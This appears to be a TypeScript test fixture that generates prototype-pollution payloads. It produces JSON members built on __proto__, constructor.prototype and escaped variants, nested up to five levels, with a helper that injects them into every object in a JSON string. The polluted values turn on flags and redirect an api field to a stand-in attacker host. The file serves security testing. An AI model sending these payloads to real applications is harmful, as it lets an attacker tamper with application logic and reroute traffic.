/** What a polluted prototype would have: unused names, and flags that were never turned on. */
export const POLLUTED = {
  isPolluted: true,
  enableSmsLookup: true,
  kiosk: true,
  adapter: {},
  api: 'https://evil.example',
};

const LOOT = JSON.stringify(POLLUTED);

/** The paths from an object to a prototype, as JSON keys. */
const METHODS = [
  `"__proto__":${LOOT}`,
  `"constructor":{"prototype":${LOOT}}`,
  `"__proto__":{"__proto__":${LOOT}}`,
  `"prototype":${LOOT},"constructor":${LOOT}`,
  `"\\u005f\\u005fproto\\u005f\\u005f":${LOOT}`,
  `"__proto__":[${LOOT}]`,
  `"toString":${LOOT},"valueOf":null,"hasOwnProperty":1`,
  `"__defineGetter__":${LOOT},"__lookupGetter__":${LOOT},"__proto__":null`,
];

/** How deep each path is nested. */
const DEPTHS = [1, 2, 3, 4, 5];

export interface PollutionPayload {
  readonly name: string;
  /** JSON of the members of an object, without its braces. */
  readonly members: string;
}

/** JSON members that make a careless merge change every object, by the path they use. */
export const POLLUTION_METHODS: readonly (readonly PollutionPayload[])[] = METHODS.map((method, index) =>
  DEPTHS.map((depth) => ({ name: `way ${index + 1}, ${depth} deep`, members: wrap(method, depth) })),
);

export const POLLUTION_PAYLOADS = POLLUTION_METHODS.flat();

function wrap(members: string, depth: number): string {
  return depth === 1 ? members : `"group":{${wrap(members, depth - 1)}}`;
}

/** JSON with a payload at the start of every object in it: a reader that takes the last of two equal keys finds the original value. */
export function pollute(json: string, { members }: PollutionPayload): string {
  return json.replace(/\{(?=")/g, `{${members},`).replace(/\{\}/g, `{${members}}`);
}
